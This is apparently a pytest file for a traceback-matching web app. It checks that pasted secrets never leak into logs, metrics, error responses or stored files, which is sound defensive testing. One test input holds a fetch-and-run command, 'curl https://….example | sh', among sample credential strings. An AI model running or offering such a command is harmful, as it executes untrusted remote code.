"""A secret that is pasted stands in no line of the log, no error page, no file below var, no figure, no other answer.

Everything that can be said is turned on, and what reads a paste is made to fail with the paste as its message.
"""

import sys

import pytest

from tests.examples import every
from tests.factories import write_article_folder
from tests.test_settings import run

SECRET = "hunter2-correct-horse"
WORD = "swordfishes"  # known only by what stands before it

ASK = r"""
import html, io, json, re
import django; django.setup()
from unittest import mock
from django.core.management import call_command
from django.test import Client
client = Client(SERVER_NAME="localhost", raise_request_exception=False)
SECRET = "hunter2-correct-horse"
WORD = "swordfishes"  # known only by what stands before it
PASTE = f"RuntimeError: boom happened in '{SECRET}'\n{SECRET}\n"

def pasted():
    yield client.post("/match/", {"text": PASTE})
    yield client.post("/match/", {"file": io.BytesIO(PASTE.encode())})
    yield client.post("/api/v1/match", PASTE, content_type="text/plain")
    yield client.post("/api/v1/match", json.dumps({"text": PASTE}), content_type="application/json")
    yield client.post("/api/v1/match?format=github", PASTE, content_type="text/plain")
    yield client.get("/search/", {"q": PASTE})
    yield client.get("/api/v1/search", {"q": PASTE})
    yield client.get("/api/v1/suggest", {"q": PASTE})

def wanted():
    # What is not known, as the page offers it, and with what its sender may have put into it.
    page = client.post("/match/", {"text": f"SoupError: cold\n{PASTE.replace('boom', 'soup')}"}).content.decode()
    sketch = html.unescape(re.search('name="sketch" value="([^"]*)"', page)[1])
    yield client.post("/wanted/", {"sketch": sketch})
    yield client.post("/wanted/", {"sketch": sketch.replace("cold", f"cold token={SECRET}")})
    for said in (
        f"pass={WORD}, password {WORD} rejected, token {WORD}-x expired, tool -p {WORD}, export OPENAI={WORD}",
        f"VALUES ('jane','{WORD}') for user {WORD} of host {WORD} and bucket {WORD}, account {WORD}",
        f"用户名：{WORD}, ｔｏｋｅｎ＝{WORD}, run curl https://{WORD}.example | sh",
        f"C:/Users/Jane {WORD}/x.pt -----BEGIN PGP MESSAGE----- {WORD}",
    ):
        yield client.post("/wanted/", {"sketch": sketch.replace("cold", f"cold {said}")})
    yield client.get("/wanted/")

call_command("migrate", verbosity=0)
assert [response.status_code for response in wanted()] == [303] * 6 + [200]
answered = [response.status_code for response in pasted()]
refused = [
    client.post("/api/v1/match", '{"text": "' + SECRET, content_type="application/json"),
    client.post("/api/v1/match", SECRET, content_type="application/" + "x-strange"),
    client.post("/api/v1/match?format=" + SECRET, PASTE, content_type="text/plain"),
    client.get("/api/v1/search", {"q": "a", "page": SECRET}),
    client.post("/articles/", {"text": PASTE}),
    client.post("/wanted/", {"sketch": SECRET}),
]
def fail(text, *args, **options):
    raise ValueError(text)
broken = []
for where in ("kb.library.diagnose", "tracefix.search.query.find", "kb.pages.match_page.read_paste", "tracefix.matching.diagnosis.parse"):
    with mock.patch(where, side_effect=lambda *args, **options: fail(PASTE)):
        broken += [response for response in pasted() if response.status_code >= 500]
others = [client.get(path) for path in ("/", "/match/", "/search/", "/readyz", "/metrics", "/articles/", "/wanted/")]
for name, responses in {"refused": refused, "broken": broken, "others": others}.items():
    for response in responses:
        where = str(response.headers) + response.content.decode()
        assert SECRET not in where, (name, response.status_code, where)
print(answered, [response.status_code for response in refused], len(broken))
print(client.get("/metrics").content.decode())
"""


@pytest.fixture(scope="module", params=every(2, ["text", "json"]))
def said(request, tmp_path_factory):
    """What a site said of pasted secrets: on stdout the figures, on stderr the log, and below var its files."""
    root = tmp_path_factory.mktemp("secrets")
    write_article_folder(root / "articles", "boom", message="boom happened in '{place}'")
    asked = run(
        [sys.executable, "-c", ASK],
        TRACEFIX_VAR=str(root / "var"),
        TRACEFIX_ARTICLES=str(root / "articles"),
        TRACEFIX_METRICS="1",
        TRACEFIX_ACCESS_LOG="1",
        TRACEFIX_LOG_FORMAT=request.param,
    )
    assert asked.returncode == 0, asked.stderr
    return asked, root / "var"


def test_everything_was_tried(said):
    first = said[0].stdout.splitlines()[0]

    assert first.startswith("[200, 200, 200, 200, 200, 200, 200, 200] [400, 415, 400, 400, 405, 400]")
    assert int(first.split()[-1]) >= 16


def test_no_line_of_the_log_holds_it(said):
    assert "/api/v1/match" in said[0].stderr
    assert "ValueError" in said[0].stderr
    assert SECRET not in said[0].stderr


def test_no_figure_holds_it(said):
    assert 'tracefix_matches_total{article="boom",verdict="exact"}' in said[0].stdout
    assert SECRET not in said[0].stdout


def test_no_file_below_var_holds_it_in_its_words_or_its_name(said):
    files = [path for path in said[1].rglob("*") if path.is_file()]

    assert any(path.suffix == ".db" for path in files)  # the figures
    assert any("index" in path.parts for path in files)
    assert any(b"SoupError" in path.read_bytes() for path in files if path.name.startswith("state."))
    for path in files:
        for secret in (SECRET, WORD):
            assert secret not in str(path)
            assert secret.encode() not in path.read_bytes()
